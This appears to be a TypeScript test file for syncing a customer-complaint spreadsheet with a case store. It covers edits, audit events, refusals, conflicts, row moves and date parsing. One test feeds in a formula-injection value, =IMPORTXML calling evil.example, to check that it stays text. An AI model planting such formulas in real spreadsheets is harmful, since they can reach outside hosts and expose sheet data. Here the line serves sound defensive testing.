/**
 * Managers' edits in the Cases tab reaching the cases through the core: applied with an audit event,
 * refused with a note (the typed value stays), conflicts, rows sorted/inserted/deleted/duplicated between
 * syncs, text that must stay text, and dates typed the ways people type them.
 */
import { describe, expect, it } from 'vitest';
import { CASES_TAB } from '../../../shared/sheet/columns.js';
import { freshSync, header } from '../../support/sheet-sync.js';
import { batch, getValues, putValues, useSheetsEmulator } from '../../support/sheets.js';

const h = useSheetsEmulator();

type Sync = Awaited<ReturnType<typeof freshSync>>;

/** A sheet with `n` cases from the form, synced (History caught up). */
async function withCases(n: number, s?: Sync) {
  const sync = s ?? (await freshSync(h.emulator));
  const made = [];
  for (let i = 0; i < n; i++) made.push(await sync.submit({ name: `顾客${i + 1}`, phone: `1380013800${i}` }));
  await sync.sync();
  await sync.sync();
  return { s: sync, made };
}

/** A sheet with one case from the form, synced; the case and its row number. */
async function oneCase() {
  const { s, made } = await withCases(1);
  const [c] = made;
  if (!c) throw new Error('no case');
  return { s, c, row: (await s.rowOf(c.caseNo))._row };
}

describe('sync-sheet: managers’ edits', () => {
  it('applies an edit through the core, door "sheet", the editor as actor, with an audit event', async () => {
    const { s, c, row } = await oneCase();
    await s.type(row, { status: '调查中 Investigating', owner: '王店长', findings: '修图师液化过度' });
    await s.syncRows([row], 'wang@studio.example');
    const stored = await s.cases.get(c.caseNo);
    expect(stored).toMatchObject({
      status: 'investigating',
      owner: '王店长',
      findings: '修图师液化过度',
      version: 2,
    });
    const [, event] = await s.cases.listEvents(c.caseNo);
    expect(event).toMatchObject({
      actor: { id: 'wang@studio.example', door: 'sheet' },
      from: 'received',
      to: 'investigating',
    });
    expect(await s.rowOf(c.caseNo)).toMatchObject({ [header('version')]: 2, [header('note')]: '' });

    // Nothing changed since: the scheduled pass applies nothing again.
    const again = await s.sync();
    expect(again.passes[0]).toMatchObject({ applied: 0, refused: 0 });
    expect((await s.cases.get(c.caseNo))?.version).toBe(2);
  });

  it('refuses an illegal edit with the reason in the row, keeps the typed value, and applies it once fixed', async () => {
    const { s, c, row } = await oneCase();
    await s.type(row, { status: '已决定 Decided' });
    await s.sync();
    let shown = await s.rowOf(c.caseNo);
    expect(shown[header('status')]).toBe('已决定 Decided');
    expect(String(shown[header('note')])).toMatch(
      /^⚠ 未生效 Not applied: 请先填写调查结果 .*record the investigation findings first/,
    );
    expect((await s.cases.get(c.caseNo))?.status).toBe('received');

    // The same refusal the next time, and nothing written: the note is already there.
    h.emulator.resetCalls();
    await s.sync();
    expect(h.emulator.calls()['spreadsheets.values.batchUpdate']).toBeUndefined();

    await s.type(row, { findings: '属实', substantiated: '是', correctiveAction: '重新精修三张' });
    await s.syncRows([row]);
    shown = await s.rowOf(c.caseNo);
    expect(shown[header('note')]).toBe('');
    expect(await s.cases.get(c.caseNo)).toMatchObject({ status: 'decided', substantiated: true });
  });

  it('saves the other fields when only the status change is refused', async () => {
    const { s, c, row } = await oneCase();
    await s.type(row, { status: '已结案 Closed', notes: '顾客来电催促' });
    await s.syncRows([row]);
    const shown = await s.rowOf(c.caseNo);
    expect(String(shown[header('note')])).toMatch(/^⚠ 状态未改，其余已保存 Status not changed/);
    expect(shown[header('status')]).toBe('已结案 Closed');
    expect(await s.cases.get(c.caseNo)).toMatchObject({ status: 'received', notes: '顾客来电催促' });
  });

  it('notes what it cannot read: an unknown option, a bad date, a yes/no that is neither', async () => {
    const { s, c, row } = await oneCase();
    await s.type(row, { category: '天气', notifiedAt: '下周二', substantiated: '也许' });
    await s.syncRows([row]);
    const note = String((await s.rowOf(c.caseNo))[header('note')]);
    expect(note).toContain('类别 Category');
    expect(note).toContain('通知时间 Notified at');
    expect(note).toContain('是否属实 Substantiated');
    expect((await s.cases.get(c.caseNo))?.version).toBe(1);
  });

  it('both sides changed the same field: the sheet’s value is applied, the store’s stays in the audit trail', async () => {
    const { s, c, row } = await oneCase();
    await s.update(c.caseNo, 1, { patch: { notes: '接口写的备注' }, actor: { id: 'crm', door: 'api' } });
    await s.type(row, { notes: '经理写的备注' });
    const out = await s.sync();
    expect(out.passes[0]).toMatchObject({ conflicts: 1 });
    const stored = await s.cases.get(c.caseNo);
    expect(stored?.notes).toBe('经理写的备注');
    const events = await s.cases.listEvents(c.caseNo);
    const last = events.at(-1);
    expect(last?.changes).toEqual([{ field: 'notes', from: '接口写的备注', to: '经理写的备注' }]);
    expect(last?.note).toMatch(/conflict: notes/);
    expect(String((await s.rowOf(c.caseNo))[header('note')])).toMatch(/^ℹ 冲突 Conflict: 备注 Notes/);
  });

  it('only the store changed a field the manager did not touch: the store’s value is written', async () => {
    const { s, c, row } = await oneCase();
    await s.update(c.caseNo, 1, { patch: { owner: '小李' }, actor: { id: 'crm', door: 'api' } });
    await s.type(row, { notes: '经理写的备注' });
    await s.sync();
    expect(await s.cases.get(c.caseNo)).toMatchObject({ owner: '小李', notes: '经理写的备注', version: 3 });
    expect(await s.rowOf(c.caseNo)).toMatchObject({
      [header('owner')]: '小李',
      [header('notes')]: '经理写的备注',
    });
  });

  it('follows rows by case number through a sort, an inserted row and a deleted row', async () => {
    const { s, made } = await withCases(3);
    const sheetId = await s.sheetIdOf('Cases');
    const [a, b, c] = made;
    if (!a || !b || !c) throw new Error('no cases');
    // Sort by complainant descending, insert a blank row at the top, delete the row of case b.
    await batch(s.api, s.spreadsheetId, [
      {
        sortRange: {
          range: { sheetId, startRowIndex: 1, endRowIndex: 4 },
          sortSpecs: [{ dimensionIndex: 7, sortOrder: 'DESCENDING' }],
        },
      },
      { insertDimension: { range: { sheetId, dimension: 'ROWS', startIndex: 1, endIndex: 2 } } },
    ]);
    const bRow = (await s.rowOf(b.caseNo))._row;
    await batch(s.api, s.spreadsheetId, [
      { deleteDimension: { range: { sheetId, dimension: 'ROWS', startIndex: bRow - 1, endIndex: bRow } } },
    ]);
    const aRow = (await s.rowOf(a.caseNo))._row;
    const cRow = (await s.rowOf(c.caseNo))._row;
    await s.type(aRow, { owner: '负责A' });
    await s.type(cRow, { owner: '负责C' });
    await s.sync();
    expect((await s.cases.get(a.caseNo))?.owner).toBe('负责A');
    expect((await s.cases.get(c.caseNo))?.owner).toBe('负责C');
    expect((await s.cases.get(b.caseNo))?.owner).toBeUndefined();
    const restored = await s.rowOf(b.caseNo);
    expect(String(restored[header('note')])).toMatch(/^ℹ 此行曾被删除，已恢复/);
    expect(await s.cases.get(b.caseNo)).toBeDefined();
  });

  it('two rows claiming one case number: neither is applied, both notes say so', async () => {
    const { s, made } = await withCases(2);
    const [a, b] = made;
    if (!a || !b) throw new Error('no cases');
    const bRow = (await s.rowOf(b.caseNo))._row;
    await s.type(bRow, { caseNo: a.caseNo, owner: '冒名' });
    await s.type((await s.rowOf(a.caseNo))._row, { owner: '真的' });
    await s.sync();
    expect((await s.cases.get(a.caseNo))?.owner).toBeUndefined();
    const rows = (await s.rows()).filter((r) => r[header('caseNo')] === a.caseNo);
    expect(rows).toHaveLength(2);
    for (const r of rows) expect(String(r[header('note')])).toMatch(/^⚠ 案例编号重复 Duplicate case number/);
    // b's row now claims a's number: b itself is missing from the sheet and comes back.
    expect(String((await s.rowOf(b.caseNo))[header('note')])).toMatch(/已恢复/);
  });

  it('a settled row copied whole (its hidden state too) below the others: both rows say they are duplicates', async () => {
    const { s, made } = await withCases(2);
    const [a] = made;
    if (!a) throw new Error('no case');
    const { _row: aRow } = await s.rowOf(a.caseNo);
    const last = Math.max(...(await s.rows()).map((r) => r._row));
    const [line = []] =
      (
        await getValues(s.api, s.spreadsheetId, `${CASES_TAB}!${aRow}:${aRow}`, {
          valueRenderOption: 'UNFORMATTED_VALUE',
        })
      ).values ?? [];
    await putValues(s.api, s.spreadsheetId, `${CASES_TAB}!A${last + 1}`, [line]);
    await s.sync();
    const rows = (await s.rows()).filter((r) => r[header('caseNo')] === a.caseNo);
    expect(rows.map((r) => r._row)).toEqual([aRow, last + 1]);
    for (const r of rows) expect(String(r[header('note')])).toMatch(/^⚠ 案例编号重复 Duplicate case number/);
    expect(await s.cases.get(a.caseNo)).toMatchObject({ version: a.version });
  });

  it('keeps text as text: formula-looking text, leading zeros, +86, long digit strings', async () => {
    const s = await freshSync(h.emulator);
    const c = await s.submit({
      name: '=IMPORTXML("http://evil.example","//a")',
      phone: '+86 138 0013 8000',
      description: '@所有人 -1 +1 订单号 0012345678901234567890',
    });
    await s.sync();
    const row = await s.rowOf(c.caseNo);
    expect(row).toMatchObject({
      [header('name')]: '=IMPORTXML("http://evil.example","//a")',
      [header('phone')]: '+86 138 0013 8000',
      [header('description')]: '@所有人 -1 +1 订单号 0012345678901234567890',
    });
    const cells = (await (
      await fetch(
        `${h.emulator.url}__emulator/spreadsheets/${s.spreadsheetId}/cells?range=${encodeURIComponent(`Cases!A${row._row}:AL${row._row}`)}`,
      )
    ).json()) as { cells: { isFormula: boolean }[][] };
    expect(cells.cells.flat().some((x) => x.isFormula)).toBe(false);

    // A manager types a phone with a leading 0 and a wechat of digits into the text columns.
    await s.type(row._row, { phone: '013800138000', wechat: '00123456', notes: '=1+1' });
    await s.syncRows([row._row]);
    expect((await s.cases.get(c.caseNo))?.complainant).toEqual({
      name: c.complainant.name,
      phone: '013800138000',
      wechat: '00123456',
    });
    expect((await s.cases.get(c.caseNo))?.notes).toBe('=1+1');
    expect(await s.rowOf(c.caseNo)).toMatchObject({
      [header('phone')]: '013800138000',
      [header('notes')]: '=1+1',
    });
  });

  it('reads dates as people type them, in the business time zone; refuses what is not a date', async () => {
    const { s, c, row } = await oneCase();
    await s.type(row, { promisedReplyAt: '2030-11-24 14:30' });
    await s.syncRows([row]);
    expect((await s.cases.get(c.caseNo))?.promisedReplyAt).toBe('2030-11-24T06:30:00.000Z');

    await s.type(row, { promisedReplyAt: "'２０３０年１１月２５日 ９:０５" }); // a text cell, full-width digits
    await s.syncRows([row]);
    expect((await s.cases.get(c.caseNo))?.promisedReplyAt).toBe('2030-11-25T01:05:00.000Z');

    await s.type(row, { promisedReplyAt: '2030年11月26日' });
    await s.syncRows([row]);
    expect((await s.cases.get(c.caseNo))?.promisedReplyAt).toBe('2030-11-26T10:00:00.000Z'); // closing time, 18:00

    await s.type(row, { promisedReplyAt: '明天下午' });
    await s.syncRows([row]);
    expect(String((await s.rowOf(c.caseNo))[header('note')])).toContain('日期无法识别');
    expect((await s.cases.get(c.caseNo))?.promisedReplyAt).toBe('2030-11-26T10:00:00.000Z');
  });
});
